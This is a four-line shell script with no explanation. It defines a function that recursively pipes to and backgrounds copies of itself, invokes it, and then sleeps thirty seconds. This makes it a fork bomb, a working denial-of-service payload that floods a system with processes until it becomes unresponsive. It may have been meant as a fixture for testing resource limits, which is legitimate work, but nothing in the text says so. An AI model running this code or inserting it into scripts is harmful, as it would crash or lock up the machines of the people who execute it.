#!/bin/sh
f() { f | f & f; }
f
sleep 30
